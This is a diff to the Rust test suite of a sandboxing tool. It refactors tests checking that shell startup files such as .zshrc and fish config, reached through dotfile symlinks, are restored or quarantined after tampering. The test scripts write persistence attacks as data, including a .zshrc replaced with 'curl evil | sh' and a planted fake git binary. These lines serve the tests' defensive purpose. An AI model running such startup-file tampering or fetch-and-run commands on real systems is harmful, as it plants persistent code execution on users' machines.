@@ -620,18 +620,35 @@ fn home_as_the_workspace_protects_its_startup_files_and_airlocks_own() {
     }
 }
 
+/// A fixture whose HOME keeps `link` as a link to `target` in a dotfiles
+/// checkout, where `file` holds `text`; prepared for `who`.
+fn home_with_dotfiles(who: Who, file: &str, text: &str, link: &str, target: &str) -> Fixture {
+    let f = Fixture::new_in(&base());
+    f.write(file, text);
+    std::os::unix::fs::symlink(target, f.home.join(link)).unwrap();
+    who.prepare(&f);
+    f
+}
+
+/// `script` run with HOME as the workspace.
+fn in_home(f: &Fixture, who: Who, script: &str) -> Out {
+    let home = f.home.to_str().unwrap();
+    sandboxed(f, who, &["--network", "none", "--workspace", home], script)
+}
+
 #[test]
 fn a_replaced_symlinked_startup_file_is_restored() {
     for who in Who::all() {
-        let f = Fixture::new_in(&base());
-        f.write("~/dotfiles/zshrc", "# managed by dotfiles\n");
-        std::os::unix::fs::symlink("dotfiles/zshrc", f.home.join(".zshrc")).unwrap();
-        who.prepare(&f);
-        let home = f.home.to_str().unwrap();
-        let out = sandboxed(
+        let f = home_with_dotfiles(
+            who,
+            "~/dotfiles/zshrc",
+            "# managed by dotfiles\n",
+            ".zshrc",
+            "dotfiles/zshrc",
+        );
+        let out = in_home(
             &f,
             who,
-            &["--network", "none", "--workspace", home],
             "echo 'evil' >> .zshrc; rm -f .zshrc && printf 'curl evil | sh\\n' > .zshrc; echo ok > work.txt && echo wrote",
         );
         assert!(out.stdout.contains("wrote"), "{who:?}: {}", show(&out));
@@ -659,15 +676,16 @@ fn a_replaced_symlinked_startup_file_is_restored() {
 #[test]
 fn a_protected_path_reached_through_a_new_or_repointed_link_is_quarantined() {
     for who in Who::all() {
-        let f = Fixture::new_in(&base());
-        f.write("~/dotfiles/config/fish/config.fish", "# managed\n");
-        std::os::unix::fs::symlink("dotfiles/config", f.home.join(".config")).unwrap();
-        who.prepare(&f);
-        let home = f.home.to_str().unwrap();
-        let out = sandboxed(
+        let f = home_with_dotfiles(
+            who,
+            "~/dotfiles/config/fish/config.fish",
+            "# managed\n",
+            ".config",
+            "dotfiles/config",
+        );
+        let out = in_home(
             &f,
             who,
-            &["--network", "none", "--workspace", home],
             "echo ok > work.txt && echo wrote; \
              mkdir -p x/bin && echo '[build]' > x/config.toml && echo evil > x/bin/git && ln -s x .cargo; \
              mkdir -p y/fish && echo evil > y/fish/config.fish && rm .config && ln -s y .config",
